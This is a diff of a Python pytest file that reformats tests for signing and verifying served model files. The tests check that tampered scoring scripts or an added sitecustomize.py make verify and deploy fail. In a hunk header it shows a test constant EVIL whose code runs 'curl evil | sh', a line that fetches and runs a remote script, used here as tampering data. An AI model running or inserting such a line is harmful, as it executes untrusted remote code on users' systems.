@@ -28,8 +28,12 @@ EVIL = b"import os\ndef init():\n    os.system('curl evil | sh')\n\ndef run(data
 @pytest.fixture
 def keys(tmp_path):
     key = ec.generate_private_key(ec.SECP256R1())
-    private = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()).decode()
-    (tmp_path / "pub.pem").write_bytes(key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
+    private = key.private_bytes(
+        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
+    ).decode()
+    (tmp_path / "pub.pem").write_bytes(
+        key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+    )
     return private, tmp_path / "pub.pem"
 
 
@@ -43,7 +47,11 @@ def gate_files(root: Path) -> dict[str, Path]:
     (serving / "scoring").mkdir(parents=True)
     (serving / "scoring" / "score.py").write_bytes(SCORE)
     (serving / "scoring" / "helper.py").write_bytes(b"X = 1\n")
-    document = {"tensorflow": "2.18.1", "path": ".", "scoring": {"script": "score.py", "sha256": sha(SCORE), "packages": []}}
+    document = {
+        "tensorflow": "2.18.1",
+        "path": ".",
+        "scoring": {"script": "score.py", "sha256": sha(SCORE), "packages": []},
+    }
     (serving / "serving.json").write_text(json.dumps(document))
     (serving / "model.onnx").write_bytes(b"onnx graph")
     return {
@@ -62,7 +70,12 @@ def register(base: Path, private: str | None):
     (model / "variables").mkdir(parents=True)
     (model / "saved_model.pb").write_bytes(b"graph")
     (model / "variables" / "variables.data").write_bytes(b"weights")
-    seal = Seal(run_dir / "run.json", run_dir / "manifest.lock.yml", SECRET if private else None, environ={SECRET: private} if private else {})
+    seal = Seal(
+        run_dir / "run.json",
+        run_dir / "manifest.lock.yml",
+        SECRET if private else None,
+        environ={SECRET: private} if private else {},
+    )
     files = gate_files(base / "gate")
     document = json.loads(files["serving/serving.json"].read_text())
     return Registry(Store(base / "home")).register("digits", model, "digits-1", {"serving": document}, files, seal)
@@ -93,8 +106,12 @@ def test_the_signature_covers_every_file_served_and_nothing_registration_writes_
     model = register(tmp_path, private)
     signed = signing.signed_files(model.path / signing.SIGNATURE)
     assert sorted(signed) == [
-        "model.onnx", "model/saved_model.pb", "model/variables/variables.data",
-        "scoring/helper.py", "scoring/score.py", "serving/serving.json",
+        "model.onnx",
+        "model/saved_model.pb",
+        "model/variables/variables.data",
+        "scoring/helper.py",
+        "scoring/score.py",
+        "serving/serving.json",
     ]
     assert signed["scoring/score.py"] == sha(SCORE)
     assert model.info["signature"]["covers"] == "version"
@@ -112,7 +129,9 @@ def test_the_signature_covers_every_file_served_and_nothing_registration_writes_
         ("sitecustomize.py", b"import os\n", "added (not signed): 'sitecustomize.py'"),
     ],
 )
-def test_a_served_file_rewritten_with_its_checksums_fails_verify_and_deploy(home, keys, cli, monkeypatch, relative, data, words):
+def test_a_served_file_rewritten_with_its_checksums_fails_verify_and_deploy(
+    home, keys, cli, monkeypatch, relative, data, words
+):
     import runner.environments
 
     private, public = keys
@@ -121,7 +140,11 @@ def test_a_served_file_rewritten_with_its_checksums_fails_verify_and_deploy(home
     result = cli("models", "verify", "digits@v1", "--public-key", str(public))
     assert result.returncode == SignatureError.exit_code == 29, result.stdout + result.stderr
     assert words in result.stderr and result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
-    monkeypatch.setattr(runner.environments, "docker_client", lambda: pytest.fail("the daemon was asked before the signature was checked"))
+    monkeypatch.setattr(
+        runner.environments,
+        "docker_client",
+        lambda: pytest.fail("the daemon was asked before the signature was checked"),
+    )
     result = cli("deploy", "digits@v1", "--image", "localhost:5000/digits", "--verify-key", str(public))
     assert result.returncode == 29, result.stdout + result.stderr
     assert "the files are not what model.sig signed" in result.stderr and result.stderr.count("\n") == 1
@@ -173,7 +196,10 @@ def test_a_model_only_signature_is_refused_where_served_files_would_go_unsigned(
     sign_model_only(model, private)
     assert signing.coverage_of(model.path / signing.SIGNATURE) is signing.Coverage.MODEL
     monkeypatch.setattr(runner.environments, "docker_client", lambda: pytest.fail("the daemon was asked"))
-    for command in (("models", "verify", "digits@v1", "--public-key"), ("deploy", "digits@v1", "--image", "localhost:5000/d", "--verify-key")):
+    for command in (
+        ("models", "verify", "digits@v1", "--public-key"),
+        ("deploy", "digits@v1", "--image", "localhost:5000/d", "--verify-key"),
+    ):
         result = cli(*command, str(public))
         assert result.returncode == 29, result.stdout + result.stderr
         assert "model.sig covers model/ only" in result.stderr and "'scoring/score.py'" in result.stderr
@@ -195,6 +221,12 @@ def test_a_model_only_signature_of_a_version_without_served_files_still_verifies
     (tmp_path / "out").mkdir()
     (tmp_path / "out" / "weights.h5").write_bytes(b"weights")
     registry = Registry(Store(tmp_path / "home"))
-    model = registry.register("plain", tmp_path / "out", None, {}, seal=Seal(run_dir / "run.json", run_dir / "lock", SECRET, environ={SECRET: private}))
+    model = registry.register(
+        "plain",
+        tmp_path / "out",
+        None,
+        {},
+        seal=Seal(run_dir / "run.json", run_dir / "lock", SECRET, environ={SECRET: private}),
+    )
     sign_model_only(model, private)
     verify_version(model, public)  # everything it would serve is model/, which it signed
